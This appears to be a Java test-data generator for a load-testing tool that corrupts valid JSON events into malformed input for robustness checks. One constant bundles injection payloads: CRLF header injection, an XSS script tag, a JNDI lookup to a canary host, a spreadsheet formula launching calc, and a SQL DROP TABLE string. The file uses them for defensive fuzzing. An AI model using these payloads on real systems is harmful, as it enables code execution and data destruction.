package io.weir.load.generate;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.SplittableRandom;

/** Turns a good event into bad input of a certain kind. Pure. */
final class Poison {

  static final int NESTING_DEPTH = 10_000;
  static final int HUGE_CHARACTERS = 200_000;
  static final int HOSTILE_CHARACTERS = 65_536;

  private static final String HOSTILE_TEXT =
      "Mozilla/5.0 \r\nX-Evil: 1\u0000\u001b[31m\u202e<script>alert(1)</script>"
          + "${jndi:ldap://canary.weir.invalid/a}=cmd|' /C calc'!A0'; DROP TABLE weir.outbox; --"
          + "\ud83c\udf75\ud800\u007f\u0085";

  private Poison() {}

  /**
   * The bad value; null for a tombstone. Kinds that are bad by a member of the event stay as they
   * are.
   */
  static byte[] corrupt(EventKind kind, byte[] good, SplittableRandom random) {
    return switch (kind) {
      case NOT_JSON -> ascii("<event>" + random.nextInt(1_000_000) + "</event>");
      case HALF_JSON -> Arrays.copyOf(good, good.length / 2);
      case EMPTY -> new byte[0];
      case NULL_VALUE -> null;
      case INVALID_UTF8 -> withMember(good, quoted((byte) 0xC3, (byte) 0x28, (byte) 0xFF));
      case UTF16 -> text(good).getBytes(StandardCharsets.UTF_16);
      case FRAMED -> join(new byte[] {0, 0, 0, 0, 42}, good);
      case NOT_AN_OBJECT -> join(ascii("["), good, ascii("]"));
      case DEEP_NESTING -> withMember(good, nested());
      case NUL_CHARACTER -> withMember(good, ascii("\"a\\u0000b\""));
      case LONE_SURROGATE -> withMember(good, ascii("\"a\\ud83cb\""));
      case HUGE_STRING -> withMember(good, ascii('"' + "x".repeat(HUGE_CHARACTERS) + '"'));
      case DUPLICATE_MEMBERS ->
          join(Arrays.copyOf(good, good.length - 1), ascii(",\"type\":\"other\",\"score\":2}"));
      default -> good;
    };
  }

  /** A JSON string with everything in it that a careless hand would pass on. */
  static byte[] hostileAgent() {
    return JsonBuffer.string(
        HOSTILE_TEXT
            .repeat(HOSTILE_CHARACTERS / HOSTILE_TEXT.length() + 1)
            .substring(0, HOSTILE_CHARACTERS));
  }

  private static byte[] withMember(byte[] object, byte[] value) {
    return join(Arrays.copyOf(object, object.length - 1), ascii(",\"note\":"), value, ascii("}"));
  }

  private static byte[] nested() {
    byte[] nested = new byte[2 * NESTING_DEPTH];
    Arrays.fill(nested, 0, NESTING_DEPTH, (byte) '[');
    Arrays.fill(nested, NESTING_DEPTH, 2 * NESTING_DEPTH, (byte) ']');
    return nested;
  }

  private static byte[] quoted(byte... inside) {
    return join(ascii("\""), inside, ascii("\""));
  }

  private static String text(byte[] utf8) {
    return new String(utf8, StandardCharsets.UTF_8);
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.US_ASCII);
  }

  private static byte[] join(byte[]... parts) {
    int length = 0;
    for (byte[] part : parts) {
      length += part.length;
    }
    byte[] whole = new byte[length];
    int at = 0;
    for (byte[] part : parts) {
      System.arraycopy(part, 0, whole, at, part.length);
      at += part.length;
    }
    return whole;
  }
}
